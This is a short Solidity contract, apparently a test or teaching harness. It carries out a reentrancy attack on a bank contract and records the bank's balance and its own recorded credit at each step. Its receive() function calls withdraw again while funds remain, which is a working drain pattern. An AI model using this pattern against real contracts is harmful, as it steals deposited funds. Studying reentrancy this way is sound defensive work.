// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IBank} from "./Attack.sol";

/// Attacks like Thief and notes, at each step, what the bank holds and what it has recorded for its attacker.
contract Witness {
    struct State {
        uint256 held;
        uint256 recorded;
    }

    IBank private immutable BANK;
    bool private immutable COMES_BACK;
    State[] public states;

    constructor(IBank bank, bool comesBack) {
        BANK = bank;
        COMES_BACK = comesBack;
    }

    receive() external payable {
        _note();
        if (COMES_BACK && address(BANK).balance >= msg.value) BANK.withdraw(payable(address(this)));
    }

    function attack() external payable {
        BANK.deposit{value: msg.value}();
        _note();
        BANK.withdraw(payable(address(this)));
        _note();
    }

    function count() external view returns (uint256) {
        return states.length;
    }

    function _note() private {
        states.push(State(address(BANK).balance, BANK.balanceOf(address(this))));
    }
}
